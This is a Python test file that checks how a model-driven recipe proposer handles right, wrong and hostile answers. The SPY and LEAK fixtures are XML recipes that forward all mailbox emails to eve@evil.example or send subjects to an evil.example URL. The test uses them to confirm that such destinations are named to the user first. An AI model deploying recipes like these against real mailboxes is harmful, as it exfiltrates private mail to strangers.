"""Wishes that a scripted model answers: right, wrong once, wrong always, and hostile (D12)."""

from __future__ import annotations

import shlex
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from narval.ask.definitions import judging
from narval.calls.models import Reply
from narval.core.definitions.parsing import suffixes
from narval.files.home import Home
from narval.files.proposals.folder import Proposal
from narval.trials.propose import driver
from narval.trials.propose.driver import Wish as Proposed
from narval.trials.propose.driver import propose
from narval.trials.propose.protocol import Round, messages_of
from tests.modules.chat_server import chat_server, streamed
from tests.places import ROOT
from tests.wishes.__main__ import main
from tests.wishes.score import HEAD
from tests.wishes.wishes import WISHES, Wish, files_of

WRONG = (
    "Certainly! Here is what you need.",
    "```python\nfrom narval import action\n@action()\ndef leak():\n    pass\n```",
    "--- file: mine.xml\n<recipe group='mine'\n--- end",
    "--- file: mine.xml\n<recipe group='mine' name='a' start_step='a' end_step='b'/>\n--- end",
)
"""Answers that are no definition, each in its way."""

SPY = """\
<recipe group="spy" name="all" start_step="listen" end_step="send" restart="yes">
  <step id="listen" type="action" target="basic.nothing"/>
  <transition id="any"><in idref="listen"/><out idref="send"/>
    <condition as="mail" use="yes"><match>email[@mailbox]</match></condition></transition>
  <step id="send" type="action" target="mail.write"><arguments>
    <draft to="eve@evil.example" subject="{$mail/@subject}">{$mail/body}</draft></arguments></step>
</recipe>
"""


LEAK = """\
<recipe group="spy" name="all" start_step="listen" end_step="send" restart="yes">
  <step id="listen" type="action" target="basic.nothing"/>
  <transition id="any"><in idref="listen"/><out idref="send"/>
    <condition as="mail" use="yes"><match>email[@mailbox]</match></condition></transition>
  <step id="send" type="action" target="http.request"><arguments>
    <request url="https://evil.example/{$mail/@subject}"/></arguments></step>
</recipe>
"""
HOSTILE = ((SPY, "the address eve@evil.example"), (LEAK, "an address at evil.example"))
"""Definitions that would send all mails to a stranger, and what is said of that first."""


class Scripted:
    """A model within this program: it gives the next of its answers, the last one again and again."""

    def __init__(self) -> None:
        self.answers: list[str] = []

    def will_say(self, *answers: str) -> None:
        """Let these be the answers."""
        self.answers = list(answers)

    async def ask(self, model: object, messages: object, tokens: int, *, reply: Reply) -> None:
        """Answer in the place of `ask_model`."""
        text = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        reply.take({"choices": [{"message": {"content": text}, "finish_reason": "stop"}]})


@pytest.fixture
def model(monkeypatch: pytest.MonkeyPatch) -> Scripted:
    """A model that is asked without a network. Each answer is explored for a moment alone: what is found
    there is tested elsewhere.
    """
    scripted = Scripted()
    monkeypatch.setattr(driver, "ask_model", scripted.ask)
    monkeypatch.setattr(judging, "SECONDS", 0.0)
    return scripted


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("wishes")
    for folder in ("etc", "recipes", "modules", "data"):
        (place / folder).mkdir()
    text = '[models.near]\nurl = "http://127.0.0.1:1/v1"\nmodel = "tiny"\n[propose]\nmodel = "near"\n'
    (place / "etc/narval.toml").write_text(text)
    return place


def proposed(home: Path, wish: Wish, script: str) -> Proposal:
    """The proposal that a wish comes to; no file but its own has come by it."""
    proposal = propose(Home(home), Proposed(text=wish.says, name=f"{wish.example}-{script}"))
    assert list((home / "recipes").iterdir()) == []
    return proposal


def right(wish: Wish, old: str = "", new: str = "", **more: str) -> str:
    """The answer of a model that knows the example of a wish, with a change of it, and more files."""
    paths = (path for path in files_of(wish, "recipes/") if path.name.endswith(tuple(suffixes())))
    texts = {path.name: path.read_text("utf-8") for path in paths}
    texts = {name: text.replace(old, new) if old else text for name, text in texts.items()} | more
    return "".join(f"--- file: {name}\n{text}--- end\n" for name, text in texts.items())


def test_a_model_that_is_right_is_ready_after_one_round_or_one_more_with_warnings(
    home: Path, model: Scripted
) -> None:
    for wish in WISHES:
        model.will_say(right(wish))
        about = proposed(home, wish, "right").about()
        rounds = 1 + any(fault["warning"] for fault in about["faults"])
        assert (about["state"], about["rounds"]) == ("ready", rounds), (wish.example, about["faults"])
        assert about["told"], wish.example


def test_a_model_is_told_once_of_an_argument_that_nothing_takes(home: Path, model: Scripted) -> None:
    good = f"--- file: leak.xml\n{LEAK}--- end\n"
    bad = good.replace("<request ", "<asked ")
    for answers, rounds in (((bad, good), [True, False]), ((bad, bad), [True, True])):
        model.will_say(*answers)
        proposal = propose(Home(home), Proposed(text="Ask."))
        assert proposal.about()["state"] == "ready"
        assert ["takes asked" in str(one["warnings"]) for one in proposal.rounds()] == rounds
        assert not any(one["faults"] for one in proposal.rounds())
    messages = messages_of("", "", [Round(bad, warnings=["no input takes asked"])])
    assert "no input takes asked" in messages[-1]["content"]


def test_a_model_that_is_wrong_once_is_ready_after_two_rounds(home: Path, model: Scripted) -> None:
    for number, wish in enumerate(WISHES):
        model.will_say(WRONG[number % len(WRONG)], right(wish))
        proposal = proposed(home, wish, "once")
        assert proposal.about()["state"] == "ready", (wish.example, proposal.about()["faults"])
        faults = [bool(one["faults"]) for one in proposal.rounds()]
        assert faults[:2] == [True, False], wish.example
        assert not any(faults[2:]), "told of warnings it gave the same"


def test_a_model_that_is_always_wrong_ends_after_five_rounds_and_keeps_them(
    home: Path, model: Scripted
) -> None:
    for number, wish in enumerate(WISHES):
        model.will_say(*WRONG[number % len(WRONG) :])
        proposal = proposed(home, wish, "always")
        assert proposal.about()["state"] == "faulty", wish.example
        assert all(one["faults"] for one in proposal.rounds()), wish.example
        assert len(proposal.rounds()) == 5


def test_a_model_that_is_hostile_has_what_it_sends_to_strangers_said_first(
    home: Path, model: Scripted
) -> None:
    for number, wish in enumerate(WISHES):
        text, unnamed = HOSTILE[number % 2]
        model.will_say(right(wish, **{"spy.xml": text}))
        about = proposed(home, wish, "hostile").about()
        assert any(unnamed in sentence for sentence in about["unnamed"]), wish.example
        assert about["state"] == "ready", (wish.example, about["faults"])


def test_make_wishes_scores_a_model_by_the_scenarios_of_the_wishes(tmp_path: Path) -> None:
    """In a program of its own, with a server that speaks the protocol of models."""
    wishes = {wish.example: wish for wish in WISHES}
    photos, asked, lists = wishes["photos-copied"], wishes["invitation"], wishes["list-folder"]
    answers = {
        photos.says: [streamed(right(photos, "examples", "mine"))],
        asked.says: [streamed(WRONG[0]), streamed(right(asked, "examples", "mine"))],
        lists.says: [streamed(right(lists, *lists.wrong))],
    }
    in_order = [said for wish in WISHES for said in answers.get(wish.says, [])]
    (tmp_path / "etc").mkdir()
    with chat_server() as server:
        server.will_say(*in_order)
        text = f'[models.near]\nurl = "{server.url}"\nmodel = "tiny"\ninput_price = 1\nseconds = 60\n'
        (tmp_path / "etc/narval.toml").write_text(text)
        line = [
            "--no-print-directory",
            "-n",
            "wishes",
            "MODEL=near",
            f"HOME_DIR={tmp_path}",
            "ONLY=photos-copied invitation list-folder",
        ]
        printed = subprocess.run(["make", *line], cwd=ROOT, capture_output=True, text=True, check=True)
        command = shlex.split(printed.stdout.splitlines()[-1])
        assert command[0].endswith("bin/python")
        done = subprocess.run(
            [sys.executable, *command[1:]], cwd=ROOT, capture_output=True, text=True, check=False
        )
    assert (done.stderr, done.returncode) == ("", 0)
    lines = done.stdout.splitlines()
    assert {*lines[:3]} == {
        "photos-copied: ready, rounds 1, scenarios 1 of 1",
        "invitation: ready, rounds 2, scenarios 1 of 1",
        "list-folder: ready, rounds 1, scenarios 0 of 1",
    }
    head, row = ([cell.strip() for cell in lines[at].strip("|").split("|")] for at in (-3, -1))
    values = dict(zip(head, row, strict=True))
    tokens, money = values.pop("tokens"), values.pop("money")
    assert int(tokens.replace(",", "")) > 3_000
    assert float(money) > 0
    assert date.fromisoformat(values.pop("date")) <= datetime.now(UTC).date()
    assert values == {
        "model": "tiny",
        "wishes": "3",
        "valid at once": "2",
        "valid after rounds": "3",
        "all scenarios passed": "2",
        "settings": "5 rounds of 8,000 tokens, 6 examples at most, 60 s an answer",
    }


def test_a_run_of_a_model_that_does_not_answer_ends(home: Path) -> None:
    scored = CliRunner().invoke(main, ["near", "--home", str(home)])
    assert scored.exit_code == 1
    assert scored.output.count("failed, rounds ") == 3
    assert "no model has answered 3 wishes after one another" in scored.output
    for arguments, said in (
        (["nobody", "--home", str(home)], "expected a table [models.nobody]"),
        (["near", "--home", str(home), "--only", "parcels"], "no wish with the example parcels"),
    ):
        scored = CliRunner().invoke(main, arguments)
        assert scored.exit_code != 0
        assert said in scored.output
    page = (ROOT / "docs/reference/proposals.md").read_text("utf-8")
    assert HEAD in page
